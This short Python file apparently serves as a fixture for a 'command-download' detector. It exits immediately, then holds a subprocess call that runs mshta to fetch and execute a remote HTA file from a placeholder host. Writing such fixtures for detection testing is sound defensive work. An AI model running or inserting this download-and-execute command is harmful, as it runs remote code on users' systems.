raise SystemExit('a fixture')
# held by command-download
import subprocess
subprocess.Popen("mshta http://c.example.invalid/a.hta", shell=True)
